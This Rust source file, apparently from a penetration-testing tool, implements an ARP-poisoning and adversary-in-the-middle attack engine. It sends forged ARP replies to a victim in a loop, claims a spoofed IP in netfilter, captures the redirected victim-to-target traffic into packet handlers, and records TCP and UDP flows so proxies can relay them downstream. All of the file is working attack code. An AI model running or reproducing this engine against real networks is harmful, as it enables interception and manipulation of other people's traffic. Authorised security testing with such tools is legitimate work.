//! Per-attack orchestration (spec.md §4.4): claims the victim's spoofed
//! IP in the netfilter plane, runs the ARP poisoning loop, listens for
//! conntrack DESTROY events to evict stale connection-map entries,
//! inspects the victim<->target conversation to populate the connection
//! map, and fans every captured frame out to registered packet handlers.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use pnet::util::MacAddr;
use pnet_packet::arp::ArpOperations;
use pnet_packet::ethernet::{EtherTypes, EthernetPacket};
use pnet_packet::ip::IpNextHeaderProtocols;
use pnet_packet::ipv4::Ipv4Packet;
use pnet_packet::tcp::{TcpFlags, TcpPacket};
use pnet_packet::udp::UdpPacket;
use pnet_packet::Packet;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use eavesarp_core::addr::{AddrTriple, Transport};
use eavesarp_core::config::Config;
use eavesarp_core::store::Store;
use eavesarp_net::arp_sender::{ArpSendRequest, ArpSender};

use crate::connmap::ConnectionMap;
use crate::conntrack::ConntrackSocket;
use crate::error::Result;
use crate::handlers::{AttackPortRecorder, HandlerChannel, PacketHandler};
use crate::netfilter::NetfilterPlane;

/// One running ARP-poisoning + AITM attack. `victim_ip` is the host
/// whose traffic is being redirected; `target_ip` is the SNAC the
/// victim is poisoned into believing the local host owns; `downstream_ip`
/// is the operator-chosen relay target (spec.md §4.4: "Inputs: ...
/// optional downstream IP"). Without one, the engine only poisons and
/// fans frames out to handlers — it never populates the connection map.
pub struct AttackEngine {
    pub attack_id: i64,
    pub victim_ip: Ipv4Addr,
    pub target_ip: Ipv4Addr,
    pub downstream_ip: Option<Ipv4Addr>,
    config: Arc<Config>,
    store: Arc<Store>,
    arp_sender: Arc<ArpSender>,
    netfilter: Arc<NetfilterPlane>,
    conn_map: ConnectionMap,
    handlers: Vec<Arc<HandlerChannel>>,
    port_recorder: AttackPortRecorder,
    interface_mac: MacAddr,
}

impl AttackEngine {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        attack_id: i64,
        victim_ip: Ipv4Addr,
        target_ip: Ipv4Addr,
        downstream_ip: Option<Ipv4Addr>,
        config: Arc<Config>,
        store: Arc<Store>,
        arp_sender: Arc<ArpSender>,
        netfilter: Arc<NetfilterPlane>,
        conn_map: ConnectionMap,
        interface_mac: MacAddr,
    ) -> Self {
        let port_recorder = AttackPortRecorder::new(Arc::clone(&store), attack_id);
        Self {
            attack_id,
            victim_ip,
            target_ip,
            downstream_ip,
            config,
            store,
            arp_sender,
            netfilter,
            conn_map,
            handlers: Vec::new(),
            port_recorder,
            interface_mac,
        }
    }

    /// Registers a handler, wrapping it in its own bounded channel +
    /// background task (spec.md §4.4/§5) so a slow handler cannot
    /// backpressure the dispatch loop or its siblings.
    pub fn register_handler(&mut self, handler: Arc<dyn PacketHandler>) {
        self.handlers.push(HandlerChannel::spawn(handler));
    }

    pub fn connection_map(&self) -> ConnectionMap {
        self.conn_map.clone()
    }

    /// Runs the attack until `cancel` fires: registers the spoofed IP,
    /// starts the poisoning loop, the frame dispatch loop, and the
    /// conntrack eviction listener, then tears the spoofed IP back down.
    pub async fn run(self: Arc<Self>, frames: mpsc::Receiver<Vec<u8>>, cancel: CancellationToken) -> Result<()> {
        self.netfilter.add_spoofed(self.target_ip)?;
        info!(victim = %self.victim_ip, target = %self.target_ip, "attack started");

        let poison = tokio::spawn(Arc::clone(&self).poison_loop(cancel.clone()));
        let dispatch = tokio::spawn(Arc::clone(&self).dispatch_loop(frames, cancel.clone()));
        let evict = tokio::task::spawn_blocking({
            let this = Arc::clone(&self);
            let cancel = cancel.clone();
            move || this.conntrack_eviction_loop(cancel)
        });

        cancel.cancelled().await;
        let _ = poison.await;
        let _ = dispatch.await;
        let _ = evict.await;

        // Cancellation closes every handler channel so a straggling
        // frame already in flight is dropped rather than processed
        // after the attack has logically ended (spec.md §5).
        for handler in &self.handlers {
            handler.close();
        }

        if let Err(e) = self.netfilter.remove_spoofed(self.target_ip) {
            warn!(error = %e, target = %self.target_ip, "failed to remove spoofed ip on attack teardown");
        }
        info!(victim = %self.victim_ip, target = %self.target_ip, "attack stopped");
        Ok(())
    }

    /// Repeatedly asserts `target_ip -> local MAC` directly to the
    /// victim, both on a fixed interval and (via `refresh_on_request`)
    /// whenever the victim re-ARPs for the target, so the forged
    /// binding never ages out of the victim's cache (spec.md §4.3).
    async fn poison_loop(self: Arc<Self>, cancel: CancellationToken) {
        loop {
            self.send_poison_reply().await;
            tokio::select! {
                _ = cancel.cancelled() => break,
                _ = tokio::time::sleep(Duration::from_secs(2)) => {}
            }
        }
    }

    async fn send_poison_reply(&self) {
        let victim_mac = match self.store.mac_value_for_ip(self.victim_ip) {
            Ok(Some(v)) => v.parse::<MacAddr>().ok(),
            _ => None,
        };
        let Some(victim_mac) = victim_mac else {
            debug!(victim = %self.victim_ip, "victim mac unknown, skipping poison tick");
            return;
        };

        let req = ArpSendRequest {
            operation: ArpOperations::Reply,
            sender_hw: self.interface_mac,
            sender_ip: self.target_ip,
            target_hw: Some(victim_mac),
            target_ip: self.victim_ip,
            retries: Some(0),
            timeout: None,
            target_ip_id: None,
        };
        if let Err(e) = self.arp_sender.enqueue(req).await {
            warn!(error = %e, "poisoning arp reply enqueue failed");
        }
    }

    /// Inspects every captured victim<->target frame: re-asserts the
    /// poison on observed ARP requests, records TCP SYN / UDP datagrams
    /// into the connection map, and fans the raw frame out to every
    /// registered handler (pcap writer, packet counter, ...).
    async fn dispatch_loop(self: Arc<Self>, mut frames: mpsc::Receiver<Vec<u8>>, cancel: CancellationToken) {
        loop {
            let frame = tokio::select! {
                _ = cancel.cancelled() => break,
                frame = frames.recv() => match frame {
                    Some(f) => f,
                    None => break,
                },
            };
            for handler in &self.handlers {
                handler.dispatch(&frame);
            }
            if let Some(eth) = EthernetPacket::new(&frame) {
                match eth.get_ethertype() {
                    EtherTypes::Arp => self.send_poison_reply().await,
                    EtherTypes::Ipv4 => {
                        if let Some(downstream_ip) = self.downstream_ip {
                            self.map_conn(eth.payload(), downstream_ip);
                        }
                    }
                    _ => {}
                }
            }
        }
    }

    /// Records the downstream mapping for a TCP SYN or UDP datagram sent
    /// by the victim toward the target, so the proxies know where to
    /// relay the DNAT'd flow (spec.md §4.4, §4.6). Only called when the
    /// attack was given a downstream to relay to.
    fn map_conn(&self, ip_payload: &[u8], downstream_ip: Ipv4Addr) {
        let Some(ipv4) = Ipv4Packet::new(ip_payload) else { return };
        let src = ipv4.get_source();
        let dst = ipv4.get_destination();
        if src != self.victim_ip || dst != self.target_ip {
            return;
        }
        match ipv4.get_next_level_protocol() {
            IpNextHeaderProtocols::Tcp => {
                let Some(tcp) = TcpPacket::new(ipv4.payload()) else { return };
                if tcp.get_flags() & TcpFlags::SYN == 0 || tcp.get_flags() & TcpFlags::ACK != 0 {
                    return;
                }
                let downstream = AddrTriple::new(downstream_ip, tcp.get_destination(), Transport::Tcp);
                self.conn_map
                    .record_tcp_syn(self.victim_ip, tcp.get_source(), self.target_ip, downstream);
                self.port_recorder.record(tcp.get_destination(), Transport::Tcp);
                debug!(victim = %self.victim_ip, port = tcp.get_destination(), "mapped tcp syn");
            }
            IpNextHeaderProtocols::Udp => {
                let Some(udp) = UdpPacket::new(ipv4.payload()) else { return };
                let victim = AddrTriple::new(self.victim_ip, udp.get_source(), Transport::Udp);
                let downstream = AddrTriple::new(downstream_ip, udp.get_destination(), Transport::Udp);
                self.conn_map.record_udp(victim, downstream);
                self.port_recorder.record(udp.get_destination(), Transport::Udp);
            }
            _ => {}
        }
    }

    /// Blocking loop over conntrack DESTROY notifications, evicting any
    /// entry that matches this attack's victim/target pair.
    fn conntrack_eviction_loop(self: Arc<Self>, cancel: CancellationToken) {
        let socket = match ConntrackSocket::open() {
            Ok(s) => s,
            Err(e) => {
                warn!(error = %e, "failed to open conntrack socket; stale connection map entries will not be evicted");
                return;
            }
        };
        while !cancel.is_cancelled() {
            match socket.recv_destroyed() {
                Ok(flows) => {
                    for flow in flows {
                        let involves_pair = (flow.src_ip == self.victim_ip && flow.dst_ip == self.target_ip)
                            || (flow.src_ip == self.target_ip && flow.dst_ip == self.victim_ip);
                        if !involves_pair {
                            continue;
                        }
                        let (victim_ip, victim_port) = if flow.src_ip == self.victim_ip {
                            (flow.src_ip, flow.src_port)
                        } else {
                            (flow.dst_ip, flow.dst_port)
                        };
                        self.conn_map.evict(victim_ip, victim_port, flow.transport);
                    }
                }
                Err(e) => {
                    warn!(error = %e, "conntrack recv failed");
                    break;
                }
            }
        }
    }
}
